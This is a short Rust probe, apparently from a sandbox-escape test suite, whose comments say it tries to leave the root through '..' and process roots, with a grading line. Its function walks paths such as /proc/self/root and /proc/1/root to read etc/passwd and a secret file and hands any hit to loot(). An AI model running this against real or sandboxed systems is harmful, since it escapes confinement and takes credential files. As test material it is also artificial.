//! tries: to leave the root by `..` and by the roots of processes
//! undefended: another root behind this one
//! down: box
//! seen: graded 0

fn strike() {
    for root in ["/..", "/../../..", "/proc/self/root", "/proc/1/root", "/proc/self/cwd"] {
        for file in ["etc/passwd", "@dir@/secret"] {
            let path = format!("{root}/{}", file.trim_start_matches('/'));
            if std::fs::read(&path).is_ok() {
                loot(&path);
            }
        }
    }
}
